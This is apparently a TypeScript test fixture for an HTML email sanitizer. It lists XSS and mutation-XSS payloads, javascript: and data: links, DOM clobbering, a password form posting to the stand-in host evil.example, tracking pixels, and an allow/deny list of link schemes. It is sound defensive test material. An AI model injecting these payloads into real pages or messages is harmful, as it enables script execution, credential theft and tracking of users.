/** Letters that try to do more than be read. Each calls `parent.canary`, asks `evil.example`, leaves the page, or covers it. */
export const payloads: Record<string, string> = {
  script: '<script>parent.canary("script")</script>',
  'script after a broken tag': '<<b>script>parent.canary(1)</script>',
  'image error': '<img src=x onerror="parent.canary(1)">',
  'svg onload': '<svg onload="parent.canary(1)"><script>parent.canary(2)</script></svg>',
  'svg animation':
    '<svg><a><animate attributeName="href" values="javascript:parent.canary(1)"/><text>x</text></a></svg>',
  mathml:
    '<math><mtext><table><mglyph><style><img src=x onerror="parent.canary(1)"></style></mglyph></table></mtext></math>',
  'mutation by namespaces':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="parent.canary(1)">',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=parent.canary(1)>">',
  'mutation by a comment': '<!--><img src=x onerror="parent.canary(1)">-->',
  'javascript link': '<a href="javascript:parent.canary(1)">x</a>',
  'javascript link with a tab': '<a href="java&#9;script:parent.canary(1)">x</a>',
  'javascript link in capitals': '<a href=" JaVaScRiPt:parent.canary(1)">x</a>',
  'data link': '<a href="data:text/html,<script>parent.canary(1)</script>">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'file link': '<a href="file:///etc/passwd">x</a>',
  'link into the page': '<a href="/apps/email?mail=1" target="_top">x</a>',
  'frame with a document': '<iframe srcdoc="<script>parent.parent.canary(1)</script>"></iframe>',
  'frame of a script': '<iframe src="javascript:parent.parent.canary(1)"></iframe>',
  object: '<object data="https://evil.example/a.swf"></object><embed src="https://evil.example/b.swf">',
  'base address': '<base href="https://evil.example/"><a href="pay">pay</a><img src="pixel.png">',
  form: '<form action="https://evil.example"><input name="password"><button autofocus>Sign in</button></form>',
  'button of a form': '<button formaction="javascript:parent.canary(1)">x</button>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'link to a sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'style element': '<style>@import "https://evil.example/a.css"; body { display: none }</style>',
  'style that covers': '<div style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/x)">x</div>',
  'style expression': '<p style="width:expression(parent.canary(1))">x</p>',
  'clobbered names': '<form name="body"><input id="documentElement"></form><a id="defaultView" name="location">x</a>',
  'template with a shadow': '<div><template shadowrootmode="open"><script>parent.canary(1)</script></template></div>',
  'tracking pixel': '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  'tracking set':
    '<img srcset="https://evil.example/pixel.gif 1x"><picture><source srcset="https://evil.example/p.gif"></picture>',
  'tracking without a scheme': '<img src="//evil.example/pixel.gif">',
  'tracking background': '<table background="https://evil.example/bg.gif"><tr><td>x</td></tr></table>',
  'tracking film': '<video src="https://evil.example/a.mp4" autoplay poster="https://evil.example/p.png"></video>',
  'svg as a picture': '<img src="data:image/svg+xml,<svg onload=parent.canary(1)>">',
  'custom element': '<x-app onclick="parent.canary(1)">x</x-app>',
};

/** Links that may be followed, and links that must not. */
/* oxlint-disable no-script-url -- these are what must not be followed */
export const links: [string, boolean][] = [
  ['https://example.com', true],
  ['http://example.com', true],
  ['HTTPS://example.com', true],
  ['mailto:ana@example.com', true],
  ['tel:+5511999990000', true],
  ['javascript:alert(1)', false],
  ['java\nscript:alert(1)', false],
  ['\u0001javascript:alert(1)', false],
  ['data:text/html,x', false],
  ['blob:https://example.com/1', false],
  ['ftp://example.com', false],
  ['//example.com', false],
  ['/apps/email', false],
  ['#here', false],
  ['', false],
];
